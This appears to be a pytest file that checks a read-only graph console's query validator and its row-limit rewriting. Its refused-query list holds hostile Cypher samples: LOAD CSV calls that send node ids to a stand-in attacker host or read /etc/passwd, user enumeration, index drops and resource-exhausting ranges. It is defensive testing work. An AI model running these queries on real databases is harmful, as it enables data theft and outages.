"""graph/console.py: what the read-only console refuses before a query runs, and how it
puts the row limit inside the query. No database: the rules are about the text."""

from __future__ import annotations

import pytest

from graph.console import MAX_RANGE_ELEMENTS, QueryRefusedError, blank, check, with_row_limit

REFUSED = [
    "LOAD CSV FROM 'https://127.0.0.1:9/x' AS r RETURN r",
    "MATCH (d:Document) LOAD CSV FROM 'https://evil.example/' + d.id AS r RETURN r",
    "load   csv with headers from 'file:///etc/passwd' AS r RETURN r",
    "MATCH (n) /* hide */ LOAD\nCSV FROM 'x' AS r RETURN r",
    "UNWIND range(1, 300000000) AS x RETURN count(x)",
    "UNWIND range(1, $n) AS x RETURN x",
    "UNWIND range(1, 10^9) AS x RETURN x",
    "UNWIND range(1, 2000) AS a UNWIND range(1, 2000) AS b RETURN count(*)",
    "RETURN reduce(s = 0, x IN range(1, 100) | s + x)",
    "RETURN size([x IN range(1, 1000) | [y IN range(1, 10) | y]])",
    "MATCH (m:Measure) WITH collect(m.title) AS l RETURN [a IN l | [b IN l | a + b]]",
    "CALL apoc.load.json('file:///etc/passwd') YIELD value RETURN value",
    "CALL dbms.security.listUsers() YIELD username RETURN username",
    "CALL db.idx.fulltext.drop('Measure')",
    "RETURN apoc.text.join(['a'], ',')",
    "RETURN range(1, 10, 0)",
    "CALL algo.pageRank('Measure', 'ADAPTS')",  # no RETURN to limit
]
ALLOWED = [
    "MATCH (m:Measure) RETURN m.id AS id ORDER BY id",
    "MATCH (m:Measure {id: 'LOAD CSV FROM x'}) RETURN m",  # inside a string: data, not syntax
    "MATCH (m:Measure) // LOAD CSV in a comment\nRETURN m.id",
    "UNWIND range(1, 1000) AS x RETURN x",
    "CALL db.labels()",
    "CALL db.idx.fulltext.queryNodes('Measure', '创新券') YIELD node RETURN node.id",
    "RETURN list.dedup([1, 1]), string.join(['a', 'b'], ',')",
    "MATCH (m:Measure) RETURN [x IN m.departments WHERE x <> ''] AS d, [y IN labels(m) | y] AS l",
    "MATCH (m:Measure) RETURN m.title AS t, toUpper(m.id) AS u",
]


@pytest.mark.parametrize("query", REFUSED)
def test_refused(query: str) -> None:
    with pytest.raises(QueryRefusedError) as e:
        check(query)
    assert e.value.code == "query_refused" and e.value.http_status == 400 and e.value.hint


@pytest.mark.parametrize("query", ALLOWED)
def test_allowed(query: str) -> None:
    check(query)


def test_range_cap_is_the_product_of_all_ranges() -> None:
    check(f"UNWIND range(1, {MAX_RANGE_ELEMENTS}) AS x RETURN count(x)")
    with pytest.raises(QueryRefusedError):
        check(f"UNWIND range(0, {MAX_RANGE_ELEMENTS}) AS x RETURN count(x)")


def test_blank_keeps_positions() -> None:
    q = "RETURN 'a // b' AS x /* c */ // d"
    b = blank(q)
    assert len(b) == len(q) and "//" not in b.replace("'", "") and b.startswith("RETURN '")


@pytest.mark.parametrize(("query", "expected"), [
    ("MATCH (n) RETURN n", "MATCH (n) RETURN n\nLIMIT 11"),
    ("MATCH (n) RETURN n;", "MATCH (n) RETURN n\nLIMIT 11"),
    ("MATCH (n) RETURN n LIMIT 5", "MATCH (n) RETURN n LIMIT 5"),
    ("MATCH (n) RETURN n ORDER BY n.id LIMIT 500", "MATCH (n) RETURN n ORDER BY n.id LIMIT 11"),
    ("MATCH (n) WITH n LIMIT 500 RETURN n", "MATCH (n) WITH n LIMIT 500 RETURN n\nLIMIT 11"),
    ("MATCH (n) RETURN n LIMIT $k", "CALL {\nMATCH (n) RETURN n LIMIT $k\n}\nRETURN * LIMIT 11"),
    ("RETURN 1 AS x UNION RETURN 2 AS x", "CALL {\nRETURN 1 AS x UNION RETURN 2 AS x\n}\nRETURN * LIMIT 11"),
    ("MATCH (n) RETURN n // LIMIT 3", "MATCH (n) RETURN n // LIMIT 3\nLIMIT 11"),
    ("CALL db.labels()", "CALL db.labels()"),
])
def test_row_limit_inside_the_query(query: str, expected: str) -> None:
    assert with_row_limit(query, 11) == expected
